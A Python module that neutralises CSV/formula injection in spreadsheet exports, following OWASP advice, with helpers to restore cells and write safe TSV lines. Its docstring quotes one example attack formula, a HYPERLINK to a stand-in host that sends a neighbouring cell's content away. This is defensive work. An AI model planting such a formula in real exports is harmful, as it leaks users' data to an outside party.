"""Cells that a spreadsheet would run as formulas, neutralised (OWASP "CSV Injection").

A cell of an export or a listing that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is taken by Excel, LibreOffice and Google Sheets as a formula
(``=HYPERLINK("https://evil.example/?"&A1, "click")`` sends a neighbour's address away).
OWASP's advice, followed here: prefix such a cell with a single quote, which the spreadsheet
shows as text and hides, and quote every cell. :func:`restore` undoes the prefix when the
file is imported again, so an export still round-trips.
"""
from __future__ import annotations

import csv
from typing import Iterable, TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(TRIGGERS) else text


def restore(text: str) -> str:
    """An imported cell as it was before :func:`neutralise`."""
    return text[1:] if text.startswith("'") and text[1:].startswith(TRIGGERS) else text


def writer(handle: TextIO, *, delimiter: str = ",") -> "SafeWriter":
    return SafeWriter(handle, delimiter)


class SafeWriter:
    """csv.writer with every cell quoted and neutralised."""

    def __init__(self, handle: TextIO, delimiter: str = ","):
        self._writer = csv.writer(handle, lineterminator="\n", quoting=csv.QUOTE_ALL, delimiter=delimiter)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])


def tsv_line(cells: Iterable[object]) -> str:
    """One line of a tab-separated listing for a terminal (and whoever pastes it into a sheet):
    cells neutralised, tabs and line breaks inside a cell turned into spaces."""
    return "\t".join(" ".join(neutralise(c).replace("\t", " ").splitlines()) for c in cells)


__all__ = ["neutralise", "restore", "writer", "SafeWriter", "tsv_line", "TRIGGERS"]
